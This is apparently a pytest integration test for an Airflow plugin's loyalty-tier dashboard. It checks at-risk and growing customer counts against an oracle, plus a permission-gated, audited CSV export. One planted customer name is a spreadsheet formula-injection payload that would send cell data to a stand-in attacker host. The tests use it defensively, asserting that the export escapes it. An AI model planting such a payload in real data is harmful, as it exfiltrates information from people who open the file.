""""At risk, in full" and "Growing" on the Loyalty tiers page, end to end (issue 18).

A data dir of planted customers (built with the pipeline's own functions, four daily runs) is
served by a real Airflow api-server (tests/integration/test_ui_plugin.py's `api_server`: SQLite,
SimpleAuthManager); headless Chromium logs in and reads the counts per kind and tier off the page.
Every expected count comes from the independent oracle (tests/oracle.py) replaying what each kind
means: the next run's tiers, a return of each recent purchase, one more purchase of the distance,
the tiers of the last runs. The campaign CSV is downloaded with and without the permission, and
its audit row is read from Airflow's own `log` table.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from include.tier_sync.rules import ALL_TIERS, TIER_RANK
from tests.integration.test_ui_plugin import (
    ADMIN,
    ARTIFACTS,
    NO_BROWSER,
    VIEWER,
    Browser,
    Server,
    api_server,
    audit_rows,
    client_of,
    ensure_chromium,
    in_doc,
    login,
    read_master,
)
from tests.unit.test_dashboard_growth import AS_OF, DAY, NEXT, RUNS, US, World, oracle_moved_up

pytestmark = [
    pytest.mark.integration,
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore:connect\\(\\) must be used as a context manager:DeprecationWarning"),
]

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A2,"Reward")'
RETURN_DAYS = 30
DISTANCE_CENTS = 5000
GROWING_RUNS = 7
DOC = "document"  # the page opened directly (/loyalty-tiers/), not inside the UI's iframe


def planted() -> World:
    w = World()
    w.add("ret_bloom", (74_999, AS_OF - 200 * DAY), (10_000, AS_OF - 5 * DAY), name=FORMULA)
    w.add("ret_kept", (75_000, AS_OF - 200 * DAY), (10_000, AS_OF - 5 * DAY))
    w.add("ret_edge", (30_000, AS_OF - RETURN_DAYS * DAY), loyalty=True)
    w.add("ret_gone", (30_000, AS_OF - RETURN_DAYS * DAY - US))
    w.add("next_drop", (500, NEXT - 30 * DAY - US), (500, AS_OF - 2 * DAY), (500, AS_OF - DAY), loyalty=True, name="+1 555 0100")
    w.add("next_kept", (500, NEXT - 30 * DAY), (500, AS_OF - 2 * DAY), (500, AS_OF - DAY), name="@x")
    w.add("streak_late", (500, AS_OF - 12 * DAY), (500, AS_OF - 2 * DAY), (500, AS_OF - DAY))
    w.add("near_bloom", (70_000, AS_OF - 60 * DAY))
    w.add("near_not", (69_999, AS_OF - 60 * DAY))
    w.add("up_2_ago", (3_000, AS_OF - 90 * DAY), (30_000, AS_OF - 2 * DAY - timedelta(hours=3)))
    w.add("up_now", (3_000, AS_OF - 90 * DAY), (80_000, AS_OF - timedelta(hours=3)), loyalty=True)
    w.add("steady", (200_000, AS_OF - 100 * DAY))
    return w


def lower(a: str, b: str) -> bool:
    return TIER_RANK[a] < TIER_RANK[b]


def expected_kinds(w: World) -> dict[str, set[str]]:
    """Who is on which list, by the oracle alone (no code of the page)."""
    now = w.tiers(AS_OF)
    later = w.tiers(AS_OF + 30 * DAY + US)  # the streak list looks 30 days ahead
    nxt = w.tiers(NEXT)
    returns = set()
    for _sid, cid, cents, when in w.sales:
        returnable = cents > 0 and AS_OF - RETURN_DAYS * DAY <= when < AS_OF
        if returnable and lower(w.tiers(AS_OF, [(cid, -cents, AS_OF - US)])[cid], now[cid]):
            returns.add(cid)
    near = {c for c in w.loyalty if lower(now[c], w.tiers(AS_OF, [(c, DISTANCE_CENTS, AS_OF - US)])[c])}
    return {
        "next_run": {c for c in w.loyalty if lower(nxt[c], now[c])},
        "return": returns,
        "streak": {c for c in w.loyalty if lower(later[c], now[c])},
        "moved_up": oracle_moved_up(w, RUNS, GROWING_RUNS),
        "near_next": near,
    }


def per_tier(ids: set[str], tiers: dict[str, str]) -> dict[str, int]:
    counted = Counter(tiers[c] for c in ids)
    return {t: counted.get(t, 0) for t in ALL_TIERS}


@pytest.fixture(scope="module")
def world() -> World:
    return planted()


@pytest.fixture(scope="module")
def server(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Path]]:
    root = tmp_path_factory.mktemp("growth")
    data = Path(world.build(str(root / "data"), RUNS))
    with api_server(data, root / "airflow") as srv:
        yield srv, data


def test_the_lists_match_the_oracle(world: World, server: tuple[Server, Path]) -> None:
    srv, data = server
    expected = expected_kinds(world)
    assert expected["next_run"] == {"next_drop"} and expected["return"] == {"ret_bloom", "ret_edge", "up_now", "up_2_ago"}
    assert {"up_now", "up_2_ago"} <= expected["moved_up"] and expected["near_next"] == {"near_bloom"}
    admin = client_of(srv, ADMIN)
    tiers = {r["Customer ID"]: r["Tier"] for r in read_master(data)}
    risk = admin.get("/loyalty-tiers/api/at-risk-full", params={"limit": 200}).json()
    grow = admin.get("/loyalty-tiers/api/growing", params={"limit": 200, "runs": GROWING_RUNS}).json()
    for payload, kinds in ((risk, ("next_run", "return", "streak")), (grow, ("moved_up", "near_next"))):
        for kind in kinds:
            listed = {c["customer_id"] for c in payload["customers"] if c["kind"] == kind}
            assert listed == expected[kind], kind
            assert payload["counts"]["by_tier"][kind] == per_tier(expected[kind], tiers), kind


def test_the_export_by_permission_is_audited(server: tuple[Server, Path]) -> None:
    srv, _ = server
    denied = client_of(srv, VIEWER).get("/loyalty-tiers/api/campaign.csv")
    assert denied.status_code == 403 and FORMULA not in denied.text
    assert [json.loads(r["extra"])["action"] for r in audit_rows(srv, "loyalty_customers.denied", VIEWER)] == [
        "campaign_export"
    ]
    viewer_risk = client_of(srv, VIEWER).get("/loyalty-tiers/api/at-risk-full").json()
    assert viewer_risk["customers"] == [] and viewer_risk["counts"]["by_kind"]["return"] == 4
    resp = client_of(srv, ADMIN).get("/loyalty-tiers/api/campaign.csv")
    assert resp.status_code == 200 and resp.headers["content-disposition"].startswith("attachment; filename=")
    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert "'" + FORMULA in [r["Name"] for r in rows] and "'+1 555 0100" in [r["Name"] for r in rows]
    (row,) = [json.loads(r["extra"]) for r in audit_rows(srv, "loyalty_customers.lookup", ADMIN)
              if json.loads(r["extra"])["action"] == "campaign_export"]
    assert set(row["customer_ids"]) == {r["Customer ID"] for r in rows} and row["customers"] == len(row["customer_ids"])


def shown_counts(browser: Browser, table: str) -> dict[str, dict[str, int]]:
    cells: list[list[Any]] = browser.eval(in_doc(
        f"[...d.querySelectorAll('#{table} tbody tr[data-tier] td[data-kind]')].map("
        "c => [c.dataset.kind, c.parentElement.dataset.tier, c.innerText])", DOC))
    out: dict[str, dict[str, int]] = {}
    for kind, tier, text in cells:
        out.setdefault(kind, {})[tier] = int(text.replace(",", "").replace("–", "0"))
    return out


@contextmanager
def page_as(srv: Server, user: str) -> Iterator[Browser]:
    """Headless Chromium logged in as `user`, on the page (opened directly), once it has loaded."""
    binary = ensure_chromium()
    if binary is None:
        pytest.skip(NO_BROWSER)
    browser = Browser(binary, srv.home / f"chrome-growth-{user}", height=2600)
    try:
        login(browser, srv, user)
        browser.navigate(f"{srv.url}/loyalty-tiers/")
        browser.wait_for(in_doc("d.body.dataset.growthReady === 'true' && d.body.dataset.ready === 'true'", DOC),
                         timeout=90, what=f"the page for {user}")
        assert browser.eval(in_doc("d.getElementById('error').hidden", DOC)), browser.eval(
            in_doc("d.getElementById('error').innerText", DOC))
        yield browser
    finally:
        browser.close()


def test_the_page_shows_the_kinds_and_the_growing_counts(world: World, server: tuple[Server, Path]) -> None:
    srv, data = server
    expected = expected_kinds(world)
    tiers = {r["Customer ID"]: r["Tier"] for r in read_master(data)}
    with page_as(srv, ADMIN) as browser:
        risk = shown_counts(browser, "risk-full-counts")
        for kind in ("next_run", "return", "streak"):
            assert risk[kind] == per_tier(expected[kind], tiers), kind
        grow = shown_counts(browser, "growing-counts")
        for kind in ("moved_up", "near_next"):
            assert grow[kind] == per_tier(expected[kind], tiers), kind
        # The lists name each entry's kind; the return names the purchase that decides it.
        rows = browser.eval(in_doc(
            "[...d.querySelectorAll('#risk-full-table tbody tr')].map(r => [r.dataset.customer, r.dataset.kind, r.innerText])", DOC))
        assert {(c, k) for c, k, _ in rows} == {(c, k) for k in ("next_run", "return", "streak") for c in expected[k]}
        bloom = next(text for c, k, text in rows if c == "ret_bloom" and k == "return")
        assert "$100.00 purchase of " + (AS_OF - 5 * DAY).strftime("%Y-%m-%d") in bloom and FORMULA in bloom
        assert browser.eval(in_doc("d.getElementById('campaign-export').getAttribute('href')", DOC)).startswith(
            "api/campaign.csv")
        browser.eval(in_doc("d.getElementById('growing-card').scrollIntoView()", DOC))
        browser.screenshot(ARTIFACTS / "loyalty_tiers_growth.png")


def test_a_viewer_sees_the_counts_and_no_customer(world: World, server: tuple[Server, Path]) -> None:
    srv, data = server
    expected = expected_kinds(world)
    tiers = {r["Customer ID"]: r["Tier"] for r in read_master(data)}
    with page_as(srv, VIEWER) as browser:
        assert shown_counts(browser, "risk-full-counts")["return"] == per_tier(expected["return"], tiers)
        assert shown_counts(browser, "growing-counts")["near_next"] == per_tier(expected["near_next"], tiers)
        assert browser.eval(in_doc("!d.getElementById('risk-full-table') && !d.getElementById('growing-table')", DOC))
        assert browser.eval(in_doc("!!d.getElementById('risk-full-table-hidden')", DOC))
        assert browser.eval(in_doc("!d.getElementById('campaign-export')", DOC))
        assert "customer permission" in browser.eval(in_doc("d.getElementById('campaign-export-note').innerText", DOC))
        body = browser.eval(in_doc("d.body.innerText", DOC))
        assert FORMULA not in body and "Name near_bloom" not in body
